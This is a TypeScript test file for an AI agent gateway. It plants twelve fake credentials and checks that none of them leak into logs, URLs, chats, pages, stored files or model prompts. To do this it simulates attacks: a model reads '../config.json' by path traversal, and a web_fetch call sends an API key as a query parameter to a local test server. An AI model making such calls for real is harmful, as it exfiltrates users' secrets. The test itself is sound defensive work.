// Twelve planted secrets in a whole gateway, through use, failures and attacks: their values turn up
// where they are meant to be and nowhere else.

import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { runNanobot } from '../cli/run-nanobot.ts';
import { startBotApi } from '../support/bot-api.ts';
import { makeTestHome } from '../support/gateway-process.ts';
import { portOf } from '../support/listening.ts';
import { callTools, type LlmReply, say, startLlmServer } from '../support/llm-server.ts';

const ANNA = 42;

const PLANTED = {
  telegram: '4242:PLANTED-one-telegram-token-AAAA',
  openai: 'sk-PLANTED-two-openai-key-BBBB',
  anthropic: 'sk-ant-PLANTED-three-CCCC/+&"<x>',
  openrouter: 'sk-or-PLANTED-four-DDDD',
  groq: 'gsk-PLANTED-five-EEEE',
  gemini: 'PLANTED-six-gemini-FFFF',
  deepseek: 'PLANTED-seven deepseek GGGG',
  mail: 'PLANTED-eight-mail-pass-HHHH',
  client: 'PLANTED-nine-oauth-client-IIII',
  refresh: '1//PLANTED-ten-refresh-JJJJ',
  gateway: 'PLANTED-eleven-gateway-token-KKKK',
  zhipu: 'PLANTED-twelve-zhipu-LLLL',
};
const SECRETS = Object.values(PLANTED);

/** What a person wrote into the home. */
const MEANT_TO_BE_THERE =
  /^\/(config\.(last-good\.)?json|config\.history\/|keys\/|workspace\/(notes\.txt|USER\.md))/;

/** Every way a value could be written; `where` is named when one is found. */
function expectNoSecret(where: string, text: string): void {
  const hits = SECRETS.filter((secret) =>
    [secret, JSON.stringify(secret).slice(1, -1), encodeURIComponent(secret)]
      .concat(Buffer.from(secret).toString('base64').slice(0, -4))
      .some((spelling) => text.includes(spelling)),
  );
  expect([where, hits]).toEqual([where, []]);
}

const refused = (status: number, message: string): LlmReply => ({
  fault: { kind: 'status', status, body: { error: { message, type: 'x', code: 'x' } } },
});

async function startSite() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    if (request.method === 'POST') {
      // A token server that repeats what it was sent.
      request.on('data', (form) => {
        response.writeHead(400).end(JSON.stringify({ error: 'invalid_grant', form: String(form) }));
      });
    } else {
      response.setHeader('content-type', 'text/html');
      response.end(`<title>${PLANTED.groq}</title><p>Found: ${PLANTED.openai}</p>`);
    }
  });
  const host = `127.0.0.1:${await portOf(server)}`;
  return {
    host,
    asked,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
    },
  };
}

test('twelve planted secrets turn up in no log, transcript, URL, child environment, chat or page', async () => {
  await using site = await startSite();
  await using telegram = await startBotApi({ token: PLANTED.telegram });
  await using model = await startLlmServer();
  await using home = await makeTestHome({});
  const keys = join(home.path, 'keys');
  await mkdir(keys, { mode: 0o700 });
  for (const name of ['telegram', 'client'] as const) {
    await writeFile(join(keys, name), `${PLANTED[name]}\n`, { mode: 0o600 });
  }
  // Fingerprints the secret, and writes down what it was given to see.
  const script = join(keys, 'print.mjs');
  await writeFile(
    script,
    `import { writeFileSync } from 'node:fs';
       writeFileSync(${JSON.stringify(join(keys, 'child-env.json'))}, JSON.stringify(process.env));
       console.error(${JSON.stringify(PLANTED.anthropic)});
       console.log(${JSON.stringify(PLANTED.anthropic)});`,
  );
  await chmod(script, 0o600);
  const config = {
    version: 1,
    agents: { defaults: { model: 'openai/sim-1' } },
    providers: {
      openai: { apiKey: { env: 'MY_OPENAI' }, apiBase: model.openaiBase },
      anthropic: { apiKey: { command: [process.execPath, script] } },
      openrouter: { apiKey: PLANTED.openrouter },
      groq: { apiKey: '$'.concat('{GROQ_API_KEY}') },
      deepseek: { apiKey: PLANTED.deepseek },
      zhipu: { apiKey: PLANTED.zhipu },
    },
    channels: {
      telegram: {
        enabled: true,
        token: { file: 'keys/telegram' },
        apiRoot: telegram.apiRoot,
        allowFrom: [String(ANNA)],
        streaming: false,
      },
      email: {
        enabled: true,
        imapHost: '127.0.0.1',
        imapPort: 9,
        imapSecurity: 'none',
        smtpHost: '127.0.0.1',
        smtpPort: 9,
        smtpSecurity: 'none',
        username: 'agent@example.org',
        password: PLANTED.mail,
        oauth2: {
          tokenUrl: `http://${site.host}/token`,
          clientId: 'client',
          clientSecret: { file: join(keys, 'client') },
          refreshToken: PLANTED.refresh,
          scope: 'mail',
        },
      },
    },
    gateway: { port: 0, token: PLANTED.gateway },
    tools: { web: { allowPrivateHosts: [site.host] } },
    coalesce: { quietMs: 10 },
    retry: { providerAttempts: 0 },
    logging: { level: 'debug' },
  };
  await home.writeConfig(config as never);
  const env = {
    MY_OPENAI: PLANTED.openai,
    GROQ_API_KEY: PLANTED.groq,
    GEMINI_API_KEY: PLANTED.gemini,
  };
  const shown: string[] = [];
  const pages: string[] = [];

  const first = await home.start(env);
  await mkdir(join(home.path, 'workspace'), { recursive: true });
  await writeFile(
    join(home.path, 'workspace/notes.txt'),
    SECRETS.map((secret) => `note: ${secret}`).join('\n'),
  );
  await writeFile(join(home.path, 'workspace/USER.md'), `My key is ${PLANTED.zhipu}.`);

  const replies = new Map<string, LlmReply>();
  model.respond(({ lastUserText }) => {
    const asked = [...replies].findLast(([text]) => lastUserText.includes(text));
    return asked?.[1] ?? say('Done.');
  });
  async function ask(text: string, reply: LlmReply): Promise<string> {
    replies.set(text, reply);
    telegram.say(ANNA, text);
    const { text: answer } = await telegram.nextMessage(ANNA);
    return answer;
  }
  const call = (name: string, input: Readonly<Record<string, unknown>>) =>
    callTools({ name, arguments: input });

  // Use, and a person who asks for them.
  expect(await ask('hello', say('Hello Anna.'))).toContain('Hello Anna.');
  await ask('print your keys', call('read_file', { path: '../config.json' }));
  await ask('read my notes', call('read_file', { path: 'notes.txt' }));
  await ask('read it', call('web_fetch', { url: `http://${site.host}/` }));
  // An obedient model that knows one from elsewhere.
  const leak = `http://${site.host}/?k=${encodeURIComponent(PLANTED.openai)}`;
  await ask('leak it', call('web_fetch', { url: leak }));
  expect(await ask('say it', say(`It is ${PLANTED.openrouter}.`))).toContain('[redacted]');
  // Failures that repeat what they were sent.
  await ask('fail at login', refused(401, `Incorrect API key provided: ${PLANTED.openai}`));
  await ask(
    'fail otherwise',
    refused(400, `bad request with ${PLANTED.telegram} and ${PLANTED.mail}`),
  );
  const description = `Bad Request: ${PLANTED.telegram} ${PLANTED.anthropic}`;
  const fault = { kind: 'error', code: 400, description } as const;
  const broken = telegram.fail({ fault, method: 'sendMessage' });
  replies.set('refuse', say('This one is refused.'));
  telegram.say(ANNA, 'refuse');
  await expect.poll(() => broken.hits, { timeout: 45_000 }).toBe(1);
  // The web side, with the right and with wrong credentials.
  const headers = { authorization: `Bearer ${PLANTED.gateway}` };
  for (const path of ['/readyz', '/api/status', '/api/v1/setup', '/', '/nowhere']) {
    for (const given of [headers, { authorization: `Bearer ${PLANTED.mail}` }, {}]) {
      const response = await fetch(new URL(path, first.address), { headers: given });
      pages.push(await response.text(), JSON.stringify([...response.headers]));
    }
  }
  // The page follows an answer that says one while it is being written.
  const chat = new URL('/api/web/chats/main/', first.address);
  const whole = Promise.withResolvers<void>();
  replies.set('slowly', {
    chunks: [`First ${PLANTED.deepseek}, then `, whole.promise, 'the end.'],
  });
  const stream = await fetch(new URL('events', chat), { headers });
  await fetch(new URL('messages', chat), {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify({ clientId: 'one', text: 'say it slowly' }),
  });
  let followed = '';
  const decoder = new TextDecoder();
  for await (const piece of stream.body ?? []) {
    followed += decoder.decode(piece, { stream: true });
    if (followed.includes(', then')) whole.resolve();
    if (followed.includes('the end.')) break;
  }
  expect(followed).toContain('First [redacted], then');
  pages.push(followed);
  // A configuration gone wrong under a running gateway, then a crash.
  await home.writeConfig({
    ...config,
    providers: { openai: { apiKey: [PLANTED.openai] } },
  } as never);
  await first.printed(/cannot be used/);
  await home.writeConfig(config as never);
  await first.kill();
  shown.push(first.output());
  const second = await home.start(env);
  replies.set('still there', say('Still here.'));
  telegram.say(ANNA, 'still there?');
  const isBack = () => telegram.chat(ANNA).messages.some(({ text }) => text === 'Still here.');
  await telegram.waitFor(isBack);

  const commands = [
    ['config', 'show'],
    ['config', 'show', '--all'],
    ['config', 'get', 'providers.openai.apiKey'],
    ['config', 'validate'],
    ['status'],
    ['channels', 'status'],
    ['doctor', '--json'],
    ['trace', 'last'],
    ['dead', 'list'],
    ['sessions', 'list'],
    ['sessions', 'export', 'telegram:42', '--format', 'markdown'],
    ['sessions', 'export', 'telegram:42'],
  ];
  for (const args of commands) {
    const { stdout, stderr } = await runNanobot(args, { home: home.path, env });
    shown.push(`${args.join(' ')}: ${stdout}${stderr}`);
  }
  await second.stop();
  shown.push(second.output());

  // Nowhere: what was printed, answered, asked, said, kept.
  for (const text of shown) expectNoSecret('a terminal', text);
  for (const text of pages) expectNoSecret('a page', text);
  expectNoSecret('the log', await home.logs());
  for (const { system, lastUserText, toolResults } of model.requests) {
    // What the model itself says is its own; it is never told one.
    expectNoSecret('a prompt', JSON.stringify([system, lastUserText, toolResults]));
  }
  const results = model.requests.flatMap(({ toolResults }) => toolResults);
  const masked = results.filter(({ text }) => text.includes('[redacted]'));
  expect(masked.length).toBeGreaterThanOrEqual(2);
  const read = site.asked.filter((request) => request.startsWith('GET'));
  expect(read).toHaveLength(1);
  for (const request of site.asked) expectNoSecret('a URL', request);
  for (const { messages } of telegram.chats()) {
    for (const message of messages) expectNoSecret('a chat', JSON.stringify(message));
  }
  for (const { payload } of telegram.calls) expectNoSecret('Telegram', JSON.stringify(payload));
  const kept = await readdir(home.path, { recursive: true, withFileTypes: true });
  const files = kept.filter((entry) => entry.isFile());
  const names = files.map(({ parentPath, name }) => join(parentPath, name));
  const derived = names.filter((name) => !MEANT_TO_BE_THERE.test(name.slice(home.path.length)));
  expect(derived.some((name) => name.includes('/sessions/'))).toBe(true);
  expect(derived.some((name) => name.endsWith('state.db'))).toBe(true);
  for (const name of derived) expectNoSecret(name, await readFile(name, 'latin1'));
  const childEnv = await readFile(join(keys, 'child-env.json'), 'utf8');
  expect(JSON.parse(childEnv)).toHaveProperty('PATH');
  expectNoSecret('the environment of a child', childEnv);
  expect(model.requests.at(-1)?.headers['authorization']).toBe(`Bearer ${PLANTED.openai}`);
});
